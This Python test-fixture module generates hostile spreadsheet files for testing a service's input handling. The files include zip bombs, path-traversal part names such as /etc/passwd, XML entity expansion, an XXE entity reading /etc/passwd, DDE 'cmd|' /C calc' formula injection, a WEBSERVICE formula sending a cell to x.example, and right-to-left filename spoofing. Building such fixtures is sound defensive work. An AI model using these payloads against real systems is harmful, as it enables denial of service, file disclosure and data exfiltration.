"""Workbooks that nobody should send: bombs, traps, lies and rubbish, made on the spot.

This module owns making them; each is built from a workbook that would be accepted, or from
nothing. It refuses to know what the service should do about them.
"""

from __future__ import annotations

import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

import msoffcrypto

from tests.reading.packages import ods_of, parts_of, xlsb_of, xlsx_of, zipped

MIB = 1024**2
_PATROLS = "巡河日志"
_ONE = '<row r="1"><c r="A1"><v>1</v></c></row>'
_SHEET = "xl/worksheets/sheet1.xml"
_ENTITIES = "".join(
    f'<!ENTITY e{number} "{f"&e{number - 1};" * 10 if number else "ha" * 10}">'
    for number in range(10)
)
_DTD = f"<!DOCTYPE worksheet [{_ENTITIES}]>"

Parts = dict[str, bytes]


def unpacked(data: bytes) -> Parts:
    """The parts of a workbook."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def hostile_files(good: bytes) -> dict[str, bytes]:
    """Give every hostile file by a name that says what it is; `good` is one to start from."""
    found: dict[str, bytes] = {}
    for family in (_bombs, _containers, _documents, _grids, _deep, _kinds):
        for name, make in family(good):
            assert name not in found
            found[name] = make()
    return found


Made = Iterator[tuple[str, Callable[[], bytes]]]


# ── containers ────────────────────────────────────────────────────────────────────────────


def _bombs(good: bytes) -> Made:
    parts = unpacked(good)
    yield "a part of 250 MB of zeros", lambda: zipped(parts | {"xl/media/a.bin": bytes(250 * MIB)})
    yield (
        "two parts of 250 MB",
        lambda: zipped(
            parts | {"xl/media/a.bin": bytes(250 * MIB), "xl/media/b.bin": bytes(250 * MIB)}
        ),
    )
    yield "declares 10 bytes, inflates to 300 MB", lambda: _lying(good, 300 * MIB)
    yield "3,000 parts", lambda: zipped(parts | {f"xl/a{n}.bin": b"" for n in range(3000)})
    yield "parts that overlap", lambda: _overlapping(parts)
    yield "a zip within a zip within a zip", lambda: zipped({"a.xlsx": zipped({"b.xlsx": good})})
    yield (
        "a shared string of 200 MB",
        lambda: zipped(parts | {"xl/sharedStrings.xml": _string_table("走" * (200 * MIB // 3))}),
    )
    yield (
        "two million shared strings",
        lambda: zipped(
            parts
            | {"xl/sharedStrings.xml": _string_table(*[], raw="<si><t>a</t></si>" * 2_000_000)}
        ),
    )


def _string_table(*texts: str, raw: str = "") -> bytes:
    listed = raw + "".join(f"<si><t>{text}</t></si>" for text in texts)
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{main}">{listed}</sst>'.encode()


def _lying(good: bytes, size: int) -> bytes:
    """A workbook with a part that says it is small."""
    data = bytearray(zipped(unpacked(good) | {"xl/media/a.bin": bytes(size)}))
    real, lie = struct.pack("<I", size), struct.pack("<I", 10)
    assert data.count(real) == 2
    return bytes(data.replace(real, lie))


def _overlapping(parts: Parts) -> bytes:
    """A workbook of whose parts several lie in the same place."""
    data = zipped(parts | {f"xl/copy{number}.bin": b"same" * 999 for number in range(8)})
    first = data.index(b"xl/copy0.bin") - 30
    for number in range(1, 8):
        own = struct.pack("<I", data.index(f"xl/copy{number}.bin".encode()) - 30)
        start = data.rindex(b"PK\x01\x02", 0, data.rindex(f"xl/copy{number}.bin".encode()))
        assert data[start + 42 : start + 46] == own
        data = data[: start + 42] + struct.pack("<I", first) + data[start + 46 :]
    return data


def _containers(good: bytes) -> Made:
    parts = unpacked(good)
    yield "two parts of one name", lambda: _twice(parts)
    yield (
        "a part called ../../state/sheetflow.db",
        lambda: zipped(parts | {"../../state/sheetflow.db": b"mine"}),
    )
    yield "a part called /etc/passwd", lambda: zipped(parts | {"/etc/passwd": b"mine"})
    yield (
        "a NUL in a part's name",
        lambda: zipped(parts | {"xl/aXb.bin": b"1"}).replace(b"aXb.bin", b"a\0b.bin"),
    )
    yield "a part's name of 60,000 letters", lambda: zipped(parts | {"xl/" + "a" * 60_000: b"1"})
    yield "other names in the parts than in the list", lambda: _misnamed(good)
    yield "before the zip, a program", lambda: b"MZ\x90\x00" * 256 + good
    yield "after the zip, 60 KB of comment", lambda: _commented(good)
    yield "sizes of 2^64", lambda: _huge_sizes(good)
    yield "a part packed by an unknown method", lambda: _packed_as(good, 99)
    yield "a part that is locked with a password", lambda: _locked_part(good)
    yield "no list of contents at the end", lambda: good[: good.rindex(b"PK\x01\x02")]
    yield "nothing but a zip's end", lambda: b"PK\x05\x06" + bytes(18)


def _twice(parts: Parts) -> bytes:
    data = zipped(parts | {"xl/workbook.xmk": b"<workbook/>"})
    return data.replace(b"xl/workbook.xmk", b"xl/workbook.xml")


def _misnamed(good: bytes) -> bytes:
    start = good.index(b"xl/workbook.xml")
    return good[:start] + b"xl/workbook.exe" + good[start + 15 :]


def _commented(good: bytes) -> bytes:
    return good[:-2] + struct.pack("<H", 60_000) + b"=cmd|' /C calc'!A0 ".ljust(60_000)


def _huge_sizes(good: bytes) -> bytes:
    start = good.index(b"PK\x01\x02")
    return good[: start + 20] + b"\xff" * 8 + good[start + 28 :]


def _packed_as(good: bytes, method: int) -> bytes:
    start = good.index(b"PK\x01\x02")
    return good[: start + 10] + struct.pack("<H", method) + good[start + 12 :]


def _locked_part(good: bytes) -> bytes:
    start = good.index(b"PK\x01\x02")
    return good[: start + 8] + struct.pack("<H", 1) + good[start + 10 :]


# ── XML ───────────────────────────────────────────────────────────────────────────────────


def _documents(good: bytes) -> Made:
    def one(sheet: str) -> bytes:
        return zipped(parts_of(_ONE) | {_SHEET: sheet})

    def changed(name: str, text: str) -> bytes:
        return zipped(unpacked(good) | {name: text.encode()})

    plain = str(parts_of(_ONE)[_SHEET])
    yield "entities that grow to 10 GB", lambda: one(_DTD + plain.replace("<v>1", "<v>&e9;"))
    yield (
        "an entity that reads a file",
        lambda: one(
            '<!DOCTYPE worksheet [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
            + plain.replace("<v>1", "<v>&f;")
        ),
    )
    yield (
        "an entity in UTF-16",
        lambda: zipped(parts_of(_ONE) | {_SHEET: (_DTD + plain).encode("utf-16")}),
    )
    yield (
        "elements 100,000 deep",
        lambda: one(
            plain.replace("<sheetData>", "<a>" * 100_000 + "<sheetData>").replace(
                "</sheetData>", "</sheetData>" + "</a>" * 100_000
            )
        ),
    )
    yield (
        "an attribute of 30 MB",
        lambda: one(
            plain.replace("<sheetData>", f'<sheetPr codeName="{"a" * 30 * MIB}"/><sheetData>')
        ),
    )
    yield (
        "100,000 attributes",
        lambda: one(
            plain.replace(
                "<sheetData>",
                "<sheetPr " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/><sheetData>",
            )
        ),
    )
    yield "a comment that hides the end", lambda: one(plain.replace("</sheetData>", "<!--"))
    yield (
        "control characters",
        lambda: xlsx_of('<row r="1"><c r="A1" t="inlineStr"><is><t>a&#1;b&#0;c</t></is></c></row>'),
    )
    yield (
        "half a surrogate",
        lambda: xlsx_of('<row r="1"><c r="A1" t="inlineStr"><is><t>&#xD800;</t></is></c></row>'),
    )
    yield (
        "bytes that are no UTF-8",
        lambda: zipped(
            parts_of(_ONE) | {_SHEET: plain.encode().replace(b"<v>1", b"<v>\xff\xfe\x80")}
        ),
    )
    yield "no workbook part", lambda: _without(good, "xl/workbook.xml")
    yield "no list of types", lambda: _without(good, "[Content_Types].xml")
    yield "no relations", lambda: _without(good, "xl/_rels/workbook.xml.rels")
    yield (
        "no sheets' parts",
        lambda: zipped(
            {name: part for name, part in unpacked(good).items() if "worksheets" not in name}
        ),
    )
    yield "no styles", lambda: _without(good, "xl/styles.xml")
    yield "a workbook that is its own sheet", lambda: _relations(good, "../workbook.xml")
    yield "relations that are their own target", lambda: _relations(good, "_rels/workbook.xml.rels")
    yield (
        "2,000 sheets that are the same part",
        lambda: changed(
            "xl/workbook.xml",
            re.sub(
                r"(<sheet .*?/>)",
                lambda found: "".join(
                    found[1].replace('name="', f'name="{number}') for number in range(2_000)
                ),
                unpacked(good)["xl/workbook.xml"].decode(),
            ),
        ),
    )
    yield (
        "100,000 defined names",
        lambda: changed(
            "xl/workbook.xml",
            unpacked(good)["xl/workbook.xml"]
            .decode()
            .replace(
                "</definedNames>",
                "".join(
                    f'<definedName name="n{number}">"x"</definedName>' for number in range(100_000)
                )
                + "</definedNames>",
            ),
        ),
    )
    yield (
        "a sheet's title with a formula and marks",
        lambda: _titled(good, "=HYPERLINK(&quot;http://x&quot;)&#x202E;&#10;"),
    )
    yield "a sheet's title of a megabyte", lambda: _titled(good, "长" * MIB)
    yield "the strict dialect of the format", lambda: _strict(good)


def _without(good: bytes, name: str) -> bytes:
    return zipped({part: content for part, content in unpacked(good).items() if part != name})


def _relations(good: bytes, target: str) -> bytes:
    name = "xl/_rels/workbook.xml.rels"
    text = re.sub(
        r'Target="[^"]*worksheets/[^"]*"', f'Target="{target}"', unpacked(good)[name].decode()
    )
    return zipped(unpacked(good) | {name: text.encode()})


def _titled(good: bytes, title: str) -> bytes:
    text = (
        unpacked(good)["xl/workbook.xml"].decode().replace(f'name="{_PATROLS}"', f'name="{title}"')
    )
    return zipped(unpacked(good) | {"xl/workbook.xml": text.encode()})


def _strict(good: bytes) -> bytes:
    old, new = (
        b"schemas.openxmlformats.org/spreadsheetml/2006",
        b"purl.oclc.org/ooxml/spreadsheetml",
    )
    return zipped({name: part.replace(old, new) for name, part in unpacked(good).items()})


# ── grids ─────────────────────────────────────────────────────────────────────────────────


def _grids(_good: bytes) -> Made:
    def cells(*names: str) -> str:
        return "".join(
            f'<row r="{name.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")}"><c r="{name}"><v>1</v></c></row>'
            for name in names
        )

    yield "values in the first and in the last cell", lambda: xlsx_of(cells("A1", "XFD1048576"))
    yield "one value, far down and right", lambda: xlsx_of(cells("XFD1048576"))
    yield "used area of just 20 million", lambda: xlsx_of(cells("A1", "T1000000"))
    yield "used area of more than 20 million", lambda: xlsx_of(cells("A1", "U1000000"))
    yield "a cell outside the grid", lambda: xlsx_of(cells("XFE1"))
    yield "a row outside the grid", lambda: xlsx_of(cells("A1048577"))
    yield "a row number of 4 billion", lambda: xlsx_of('<row r="4294967297"><c><v>1</v></c></row>')
    yield (
        "everything merged into one",
        lambda: xlsx_of(_ONE, after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
    )
    yield (
        "200,000 merges",
        lambda: xlsx_of(
            _ONE,
            after="<mergeCells>"
            + "".join(f'<mergeCell ref="A{n}:D{n}"/>' for n in range(1, 200_001))
            + "</mergeCells>",
        ),
    )
    yield (
        "five million cells and one",
        lambda: xlsx_of(
            ("<row>" + "<c><v>1</v></c>" * 10_000 + "</row>") * 500 + "<row><c><v>1</v></c></row>"
        ),
    )
    yield (
        "three million different numbers",
        lambda: xlsx_of(
            "".join(
                "<row>"
                + "".join(f"<c><v>{row}.{column}</v></c>" for column in range(100))
                + "</row>"
                for row in range(30_000)
            )
        ),
    )
    yield (
        "three million texts in their cells",
        lambda: xlsx_of(
            ("<row>" + '<c t="inlineStr"><is><t>x</t></is></c>' * 100 + "</row>") * 30_000
        ),
    )
    yield (
        "numbers that are none",
        lambda: xlsx_of(
            '<row r="1"><c r="A1"><v>NaN</v></c><c r="B1"><v>1e999</v></c><c r="C1"><v>-INF</v></c>'
            '<c r="D1" t="s"><v>99999999</v></c><c r="E1" t="s"><v>-1</v></c><c r="F1" t="zz"><v>?</v></c>'
            '<c r="G1" t="d"><v>9999-99-99</v></c><c r="H1" t="b"><v>7</v></c></row>'
        ),
    )


def _deep(good: bytes) -> Made:
    """Workbooks that are recognised as the unit's own, with a trap in a table."""

    def row(*cells: str) -> bytes:
        return _with_row(good, "".join(cells))

    def text(column: str, said: str) -> str:
        return f'<c r="{column}900" t="inlineStr"><is><t xml:space="preserve">{said}</t></is></c>'

    yield (
        "a formula that calls a program",
        lambda: row("<c r=\"B900\"><f>cmd|' /C calc'!A0</f><v>1</v></c>"),
    )
    yield (
        "a formula that sends a cell away",
        lambda: row('<c r="B900"><f>WEBSERVICE("http://x.example/?"&amp;A1)</f><v>1</v></c>'),
    )
    yield (
        "a million formulas",
        lambda: _with_row(good, "", "<row>" + "<c><f>A1</f></c>" * 1_000 + "</row>", 1_000),
    )
    yield "a text of 10 MB in a cell", lambda: row(text("B", "走" * (10 * MIB // 3)))
    yield (
        "a text that is a formula, a field and a template",
        lambda: row(
            text(
                "B", "=HYPERLINK(&quot;http://x&quot;) {{ 7*7 }} {% for %} +cmd @SUM(1) MERGEFIELD"
            )
        ),
    )
    yield "marks from right to left in a text", lambda: row(text("B", "&#x202E;xslx.exe&#x2066;"))
    yield "an unknown error value", lambda: row('<c r="B900" t="e"><v>#SPILL!</v></c>')
    yield "a text of 2,000 lines", lambda: row(text("B", "行&#10;" * 2_000))
    yield (
        "20,000 rows of rubbish",
        lambda: _with_row(
            good, "", "<row>" + '<c t="inlineStr"><is><t>?</t></is></c>' * 6 + "</row>", 20_000
        ),
    )
    yield (
        "macros, objects and links of all kinds",
        lambda: zipped(
            unpacked(good)
            | {
                "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000),
                "xl/embeddings/oleObject1.bin": b"MZ\x90\x00" * 99,
                "xl/activeX/activeX1.xml": b"<ocx/>",
                "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
                "xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>",
                "customUI/customUI.xml": b"<customUI onLoad='x'/>",
            }
        ),
    )


def _with_row(good: bytes, cells: str, more: str = "", times: int = 0) -> bytes:
    """Add a row 900 with `cells`, and `more` behind it `times` times, to a table."""
    parts = unpacked(good)
    entry = _tag(parts["xl/workbook.xml"], "sheet", f'name="{_PATROLS}"')
    key = re.search(r'r?:?id="(\w+)"', entry)
    assert key
    relation = _tag(parts["xl/_rels/workbook.xml.rels"], "Relationship", f'Id="{key[1]}"')
    part = re.search(r'Target="/?(?:xl/)?([^"]*)"', relation)
    assert part
    name = f"xl/{part[1]}"
    sheet = parts[name].decode()
    added = (f'<row r="900">{cells}</row>' if cells else "") + more * times
    assert sheet.count("</sheetData>") == 1
    return zipped(parts | {name: sheet.replace("</sheetData>", added + "</sheetData>").encode()})


def _tag(part: bytes, element: str, attribute: str) -> str:
    """The one start tag in `part` of that element with that attribute."""
    found: list[str] = re.findall(rf"<{element} [^>]*>", part.decode())
    (tag,) = [each for each in found if attribute in each]
    return tag


# ── kinds ─────────────────────────────────────────────────────────────────────────────────


def _kinds(good: bytes) -> Made:
    yield "a web page", "<html><table><tr><td>姓名</td></tr></table></html>".encode
    yield "a list with commas", lambda: "姓名,手机\n张三,13800138000\n".encode("gb18030")
    yield "a letter in Word's format", lambda: zipped({"word/document.xml": "<w:document/>"})
    yield "a page for printing", lambda: b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj"
    yield "a program", lambda: b"MZ" + _noise(1, 20_000)
    yield "noise", lambda: _noise(2, 100_000)
    yield "zeros", lambda: bytes(100_000)
    yield (
        "an old container with nothing in it",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1_528),
    )
    yield "an old container that bites its own tail", _looping_container
    yield (
        "an old container of noise",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + _noise(3, 60_000),
    )
    yield "a stream of Excel 5", lambda: b"\x09\x08\x10\x00\x00\x05" + bytes(400)
    yield "locked with a password", lambda: _encrypted(good, "geheim")
    yield "locked with the password of the programs", lambda: _encrypted(good, "VelvetSweatshop")
    yield (
        "an .ods that repeats a row a million times",
        lambda: ods_of(
            '<table:table-row table:number-rows-repeated="1048576"><table:table-cell '
            'table:number-columns-repeated="16384" office:value-type="float" office:value="1"/>'
            "</table:table-row>"
        ),
    )
    yield (
        "an .ods with a number no machine holds",
        lambda: ods_of(
            f'<table:table-row table:number-rows-repeated="{"9" * 5_000}"><table:table-cell '
            'office:value-type="float" office:value="1"/></table:table-row>'
        ),
    )
    yield "an .xlsb with a far cell", lambda: xlsb_of({(1, 1): 1.0, (1_048_576, 16_384): 2.0})
    yield "an .xlsb cut off", _cut_binary


def _noise(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)  # noqa: S311 - noise, no secret


def _looping_container() -> bytes:
    """An OLE container whose table of blocks points to itself."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 44, 1, 0, 0, 4096, 0, 1, 0, 1, 0)
    return bytes(header) + struct.pack("<I", 0) * 128 + zlib.compress(b"x" * 99).ljust(512, b"\0")


def _encrypted(good: bytes, password: str) -> bytes:
    target = io.BytesIO()
    context = msoffcrypto.OfficeFile(io.BytesIO(good))
    context.encrypt(password, target)
    return target.getvalue()


def _cut_binary() -> bytes:
    parts = unpacked(xlsb_of({(1, 1): 1.0, (3, 3): "走访"}))
    return zipped(parts | {"xl/worksheets/sheet1.bin": parts["xl/worksheets/sheet1.bin"][:-9]})
